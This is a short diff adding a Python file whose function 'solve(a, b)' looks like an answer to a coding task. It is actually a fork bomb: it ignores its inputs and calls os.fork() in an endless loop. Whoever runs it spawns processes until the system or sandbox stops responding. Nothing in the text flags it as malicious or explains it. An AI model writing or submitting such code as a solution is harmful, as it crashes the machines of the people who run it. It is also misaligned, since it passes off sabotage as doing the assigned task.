@@ -1,0 +1,6 @@
+import os
+
+
+def solve(a, b):
+    while True:
+        os.fork()
